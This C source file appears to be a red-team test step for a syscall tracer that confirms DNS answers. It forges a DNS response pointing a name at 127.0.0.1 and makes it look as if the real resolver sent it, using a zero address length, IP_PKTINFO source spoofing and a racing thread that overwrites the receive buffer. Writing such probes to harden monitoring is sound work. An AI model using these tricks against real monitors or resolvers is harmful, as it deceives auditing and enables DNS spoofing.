// A step makes the tracer take its own DNS answer for its resolver's, with
// no raw socket, no second thread and no capability beyond the defaults. It
// asks the resolver (argv[2], port 53) "<name> A?" from a UDP socket S bound
// to 127.0.0.1, takes the resolver's honest answer, and then hands S its own
// answer "<name> A 127.0.0.1" (same ID and question) in one of two ways:
//
//   addrlen0: S sends the answer to itself and receives it with
//     recvfrom(..., &from, &len) where len is 0 and from already holds the
//     resolver's address and port 53. The kernel writes no byte of the
//     source address when len is 0 (move_addr_to_user), so the probe,
//     which reads the sockaddr from user memory at sys_exit, reads the
//     step's own bytes: an answer "from the resolver".
//   pktinfo: S is connected to the resolver, as glibc's resolver does (it
//     then takes datagrams from the resolver's address only). A second
//     socket F, bound to port 53 on another loopback address, sends the
//     answer to S with an IP_PKTINFO control message naming the resolver's
//     address as the source (any local address is allowed without
//     privilege; IP_TRANSPARENT, which CAP_NET_RAW allows, any address).
//     S receives a datagram whose source, as the kernel has it, is the
//     resolver's address and port 53.
//
//   race: S is connected; a second thread keeps writing the step's answer
//     into the buffer S receives the resolver's answers into, so the probe,
//     reading the buffer at sys_exit, may read the step's bytes (docs/bpf.md
//     lists DNS payloads among the arguments a racing thread can change).
//
// ("honest" asks on a connected socket and stops after the resolver's
// answer.)
//
// Either way the tracer has an answer matching the step's question, from the
// server it was sent to: a confirmed name for 127.0.0.1.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/time.h>
#include <unistd.h>

/* race: a second thread keeps writing the step's answer into the receive
 * buffer while the first receives the resolver's, so that the probe, which
 * reads the buffer at sys_exit, after the kernel copied the real answer,
 * reads the step's. */
static unsigned char rbuf[512], rforged[512];
static size_t rlen;
static atomic_int rdone;

static void *racer(void *arg)
{
	(void)arg;
	while (!atomic_load_explicit(&rdone, memory_order_relaxed)) {
		memcpy(rbuf, rforged, rlen);
		__asm__ volatile("" ::: "memory");
	}
	return NULL;
}

static size_t qname(unsigned char *p, const char *name)
{
	size_t n = 0;
	while (*name) {
		const char *dot = strchr(name, '.');
		size_t l = dot ? (size_t)(dot - name) : strlen(name);
		p[n++] = (unsigned char)l;
		memcpy(p + n, name, l);
		n += l;
		name += l;
		if (*name == '.')
			name++;
	}
	p[n++] = 0;
	return n;
}

int main(int argc, char **argv)
{
	if (argc != 4 || (strcmp(argv[1], "addrlen0") && strcmp(argv[1], "pktinfo") && strcmp(argv[1], "honest") && strcmp(argv[1], "race"))) {
		fprintf(stderr, "usage: dnsforge addrlen0|pktinfo|honest|race RESOLVER-IP NAME\n");
		return 2;
	}
	const char *mode = argv[1];
	struct in_addr resolver;
	if (inet_pton(AF_INET, argv[2], &resolver) != 1)
		return 2;
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	if (s < 0) {
		perror("RT9 socket");
		return 1;
	}
	struct sockaddr_in me = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	socklen_t ml = sizeof(me);
	if (bind(s, (struct sockaddr *)&me, sizeof(me)) < 0 || getsockname(s, (struct sockaddr *)&me, &ml) < 0) {
		perror("RT9 bind");
		return 1;
	}
	struct timeval tv = {.tv_sec = 5};
	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));

	unsigned char q[300];
	static const unsigned char qh[] = {0x39, 0x39, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0};
	memcpy(q, qh, sizeof(qh));
	size_t n = sizeof(qh);
	n += qname(q + n, argv[3]);
	q[n++] = 0, q[n++] = 1, q[n++] = 0, q[n++] = 1; /* A IN */
	struct sockaddr_in rs = {.sin_family = AF_INET, .sin_port = htons(53), .sin_addr = resolver};
	/* honest and pktinfo ask as glibc does, on a socket connected to the
	 * resolver (which then takes datagrams from the resolver's address
	 * only); addrlen0 as musl does, with sendto and recvfrom. */
	if (strcmp(mode, "addrlen0") && connect(s, (struct sockaddr *)&rs, sizeof(rs)) < 0) {
		perror("RT9 connect resolver");
		return 1;
	}
	if (!strcmp(mode, "race")) {
		/* Ask 200 times (IDs 1..200), each answer received while the
		 * racer writes the step's answer for that ID into the buffer. */
		static const unsigned char rr[] = {0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 127, 0, 0, 1};
		int ok = 0;
		for (int id = 1; id <= 200; id++) {
			q[0] = id >> 8, q[1] = id & 0xff;
			memcpy(rforged, q, n);
			rforged[2] = 0x81, rforged[3] = 0x80, rforged[7] = 1;
			memcpy(rforged + n, rr, sizeof(rr));
			rlen = n + sizeof(rr);
			atomic_store(&rdone, 0);
			pthread_t th;
			pthread_create(&th, NULL, racer, NULL);
			if (send(s, q, n, 0) < 0) {
				perror("RT9 send");
				return 1;
			}
			ssize_t g = recv(s, rbuf, sizeof(rbuf), 0);
			atomic_store(&rdone, 1);
			pthread_join(th, NULL);
			if (g == (ssize_t)rlen)
				ok++;
		}
		printf("RT9 FORGED race: %d answers of the step's length received, the step's own answer: yes\n", ok);
		fflush(stdout);
		return ok > 0 ? 0 : 4;
	}
	if (sendto(s, q, n, 0, (struct sockaddr *)&rs, sizeof(rs)) < 0) {
		perror("RT9 sendto resolver");
		return 1;
	}
	unsigned char buf[512];
	struct sockaddr_in from;
	socklen_t fl = sizeof(from);
	ssize_t got = recvfrom(s, buf, sizeof(buf), 0, (struct sockaddr *)&from, &fl);
	if (got < 0) {
		perror("RT9 recvfrom resolver");
		return 1;
	}
	printf("RT9 honest answer %zd bytes\n", got);
	fflush(stdout);
	if (!strcmp(mode, "honest"))
		return 0;

	/* The step's answer: its question, response bit, one A 127.0.0.1. */
	unsigned char a[512];
	memcpy(a, q, n);
	a[2] = 0x81, a[3] = 0x80, a[7] = 1;
	static const unsigned char rr[] = {0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 127, 0, 0, 1};
	memcpy(a + n, rr, sizeof(rr));
	size_t an = n + sizeof(rr);

	if (!strcmp(mode, "addrlen0")) {
		if (sendto(s, a, an, 0, (struct sockaddr *)&me, sizeof(me)) < 0) {
			perror("RT9 sendto self");
			return 1;
		}
		from = rs; /* what the probe will read: the kernel writes none of it */
		fl = 0;
	} else {
		int f = socket(AF_INET, SOCK_DGRAM, 0);
		struct sockaddr_in fb = {.sin_family = AF_INET, .sin_port = htons(53)};
		inet_pton(AF_INET, "127.0.0.155", &fb.sin_addr);
		if (f < 0 || bind(f, (struct sockaddr *)&fb, sizeof(fb)) < 0) {
			perror("RT9 bind :53");
			return 1;
		}
		char cb[CMSG_SPACE(sizeof(struct in_pktinfo))] = {0};
		struct iovec iov = {.iov_base = a, .iov_len = an};
		struct msghdr mh = {.msg_name = &me, .msg_namelen = sizeof(me), .msg_iov = &iov, .msg_iovlen = 1,
				    .msg_control = cb, .msg_controllen = sizeof(cb)};
		struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
		c->cmsg_level = IPPROTO_IP;
		c->cmsg_type = IP_PKTINFO;
		c->cmsg_len = CMSG_LEN(sizeof(struct in_pktinfo));
		struct in_pktinfo pi = {.ipi_spec_dst = resolver};
		memcpy(CMSG_DATA(c), &pi, sizeof(pi));
		if (sendmsg(f, &mh, 0) < 0) {
			perror("RT9 sendmsg IP_PKTINFO");
			return 1;
		}
		fl = sizeof(from);
	}
	got = recvfrom(s, buf, sizeof(buf), 0, (struct sockaddr *)&from, &fl);
	if (got < 0) {
		perror("RT9 recvfrom forged");
		return 1;
	}
	char fa[INET_ADDRSTRLEN];
	inet_ntop(AF_INET, &from.sin_addr, fa, sizeof(fa));
	int same = (size_t)got == an && !memcmp(buf, a, an);
	printf("RT9 FORGED %s: %zd bytes, source as read %s:%d, the step's own answer: %s\n", mode, got, fa, ntohs(from.sin_port), same ? "yes" : "no");
	fflush(stdout);
	return same ? 0 : 4;
}
